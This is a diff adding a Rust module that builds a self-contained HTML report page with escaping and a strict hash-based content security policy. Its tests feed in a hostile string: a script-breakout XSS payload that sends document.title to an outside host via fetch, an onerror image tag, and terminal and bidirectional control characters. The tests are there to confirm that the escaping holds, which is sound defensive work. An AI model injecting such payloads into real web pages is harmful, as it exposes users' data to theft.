@@ -1,0 +1,250 @@
+//! One self-contained HTML page: tables that sort, charts, code side by side.
+//!
+//! Completions and logs are hostile text. Everything is escaped, and should an escape ever fail, the page's content
+//! security policy runs only the one script and the one style sheet whose hashes it names, loads nothing, and sends
+//! nothing anywhere.
+
+use std::fmt::Write as _;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use sha2::{Digest, Sha256};
+
+use super::escape;
+use super::provenance::VERSION;
+use super::svg::Picture;
+use super::table::{Align, Table};
+
+const SCRIPT: &str = include_str!("page/sort.js");
+const STYLE: &str = include_str!("page/page.css");
+
+/// A part of a page, top to bottom.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Block {
+    /// A section's title; it appears in the contents.
+    Heading(String),
+    /// A paragraph.
+    Text(String),
+    /// A sortable table with its footer.
+    Table(Table),
+    /// A chart with its footer.
+    Picture(Picture),
+    /// Code, a log or another text kept line by line, under a name, folded until opened.
+    Code {
+        /// What it is.
+        name: String,
+        /// The text; hostile until escaped.
+        text: String,
+    },
+    /// Texts beside each other, such as an evolving-aware and an evolving-ignored context.
+    SideBySide(Vec<Column>),
+}
+
+/// One of the texts of [`Block::SideBySide`].
+#[derive(Debug, Clone, PartialEq)]
+pub struct Column {
+    /// Its head.
+    pub name: String,
+    /// Its lines with their marks.
+    pub lines: Vec<MarkedLine>,
+}
+
+/// A line with a glyph before it, by which it is also coloured.
+#[derive(Debug, Clone, PartialEq)]
+pub struct MarkedLine {
+    /// `»` leaked, `«` missing, `◎` the target, or a blank.
+    pub mark: char,
+    /// The line; hostile until escaped.
+    pub text: String,
+}
+
+/// A page.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Page {
+    /// Its title.
+    pub title: String,
+    /// Its parts.
+    pub blocks: Vec<Block>,
+}
+
+impl Page {
+    /// The whole page as one HTML file.
+    pub fn html(&self) -> String {
+        let title = escape::html(&escape::one_line(&self.title));
+        let (mut contents, mut body) = (String::new(), String::new());
+        let mut section = 0;
+        for block in &self.blocks {
+            if let Block::Heading(text) = block {
+                section += 1;
+                let text = escape::html(&escape::one_line(text));
+                let _ = writeln!(contents, "<a href=\"#s{section}\">{text}</a>");
+                let _ = writeln!(body, "<h2 id=\"s{section}\">{text}</h2>");
+            } else {
+                body.push_str(&block_html(block));
+            }
+        }
+        format!(
+            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
+             <meta http-equiv=\"Content-Security-Policy\" content=\"{}\">\n\
+             <meta name=\"viewport\" content=\"width=device-width\">\n<meta name=\"referrer\" content=\"no-referrer\">\n\
+             <title>{title}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n<header>\n<h1>{title}</h1>\n\
+             <nav>\n{contents}</nav>\n</header>\n<main>\n{body}</main>\n\
+             <footer>Evoscope {VERSION}</footer>\n<script>{SCRIPT}</script>\n</body>\n</html>\n",
+            policy()
+        )
+    }
+}
+
+fn policy() -> String {
+    let hash = |text: &str| STANDARD.encode(Sha256::digest(text));
+    format!(
+        "default-src 'none'; script-src 'sha256-{}'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'",
+        hash(SCRIPT),
+        hash(STYLE)
+    )
+}
+
+fn block_html(block: &Block) -> String {
+    match block {
+        Block::Heading(_) => String::new(),
+        Block::Text(text) => format!("<p>{}</p>\n", escape::html(text)),
+        Block::Table(one) => table(one),
+        Block::Picture(picture) => format!(
+            "<figure>\n{}<figcaption>{}</figcaption>\n</figure>\n",
+            picture.inline(),
+            footer(&picture.footer)
+        ),
+        Block::Code { name, text } => format!(
+            "<details>\n<summary>{}</summary>\n<pre>{}</pre>\n</details>\n",
+            escape::html(&escape::one_line(name)),
+            escape::html(text)
+        ),
+        Block::SideBySide(columns) => {
+            let columns: String = columns.iter().map(column).collect();
+            format!("<div class=\"beside\">\n{columns}</div>\n")
+        }
+    }
+}
+
+fn column(column: &Column) -> String {
+    let mut lines = String::new();
+    for line in &column.lines {
+        let class = match line.mark {
+            '»' => " class=\"leaked\"",
+            '«' => " class=\"missing\"",
+            '◎' => " class=\"target\"",
+            _ => "",
+        };
+        let mark = escape::html(&line.mark.to_string());
+        let text = escape::html(&escape::one_line(&line.text));
+        let _ = writeln!(lines, "<span{class}>{mark} {text}</span>");
+    }
+    let name = escape::html(&escape::one_line(&column.name));
+    format!("<section>\n<h3>{name}</h3>\n<pre>{lines}</pre>\n</section>\n")
+}
+
+fn footer(lines: &[String]) -> String {
+    let lines: Vec<_> = lines
+        .iter()
+        .map(|line| escape::html(&escape::one_line(line)))
+        .collect();
+    lines.join("<br>\n")
+}
+
+/// A table as a fragment, its heads buttons that sort when the page's script runs.
+pub(super) fn table(table: &Table) -> String {
+    let class = |align| {
+        if align == Align::Right {
+            " class=\"number\""
+        } else {
+            ""
+        }
+    };
+    let mut heads = String::new();
+    for column in &table.columns {
+        let name = escape::html(&escape::one_line(&column.name));
+        let _ = write!(
+            heads,
+            "<th scope=\"col\"{}><button>{name}</button></th>",
+            class(column.align)
+        );
+    }
+    let mut rows = String::new();
+    for row in table.rows() {
+        rows.push_str("<tr>");
+        for (cell, column) in row.iter().zip(&table.columns) {
+            let key = cell
+                .sort_key()
+                .map_or_else(String::new, |key| format!(" data-key=\"{key}\""));
+            let shown = escape::html(&cell.shown());
+            let _ = write!(rows, "<td{}{key}>{shown}</td>", class(column.align));
+        }
+        rows.push_str("</tr>\n");
+    }
+    format!(
+        "<figure>\n<table>\n<caption>{}</caption>\n<thead><tr>{heads}</tr></thead>\n<tbody>\n{rows}</tbody>\n</table>\n\
+         <figcaption>{}</figcaption>\n</figure>\n",
+        escape::html(&escape::one_line(&table.title)),
+        footer(&table.provenance.lines())
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::{Column as Head, Provenance, Value};
+
+    const HOSTILE: &str = "</script></pre><script>fetch('http://example.org/'+document.title)</script><img src=x onerror=alert(1)>\u{1b}]52;c;\u{202e}";
+
+    #[test]
+    fn hostile_text_opens_no_tag_anywhere() {
+        let mut table = Table::new(HOSTILE, vec![Head::left(HOSTILE)], Provenance::new(HOSTILE));
+        table.row(vec![Value::Text(HOSTILE.into())]);
+        let line = MarkedLine {
+            mark: '»',
+            text: HOSTILE.into(),
+        };
+        let column = Column {
+            name: HOSTILE.into(),
+            lines: vec![line],
+        };
+        let code = Block::Code {
+            name: HOSTILE.into(),
+            text: HOSTILE.into(),
+        };
+        let page = Page {
+            title: HOSTILE.into(),
+            blocks: vec![
+                Block::Heading(HOSTILE.into()),
+                Block::Text(HOSTILE.into()),
+                Block::Table(table),
+                code,
+                Block::SideBySide(vec![column]),
+            ],
+        };
+        let html = page.html();
+        assert_eq!(html.matches("<script").count(), 1);
+        assert_eq!(html.matches("<img").count(), 0);
+        assert!(!html.contains('\u{1b}') && !html.contains('\u{202e}'));
+        assert!(html.matches("&lt;img").count() >= 10);
+    }
+
+    #[test]
+    fn the_policy_names_the_hash_of_the_only_script() {
+        let html = Page {
+            title: "t".into(),
+            blocks: vec![],
+        }
+        .html();
+        let script = html
+            .split("<script>")
+            .nth(1)
+            .unwrap()
+            .split("</script>")
+            .next()
+            .unwrap();
+        let hash = STANDARD.encode(Sha256::digest(script));
+        assert!(html.contains(&format!("script-src 'sha256-{hash}'")));
+        assert!(!html.contains("unsafe-inline") && !html.contains("src=\""));
+    }
+}
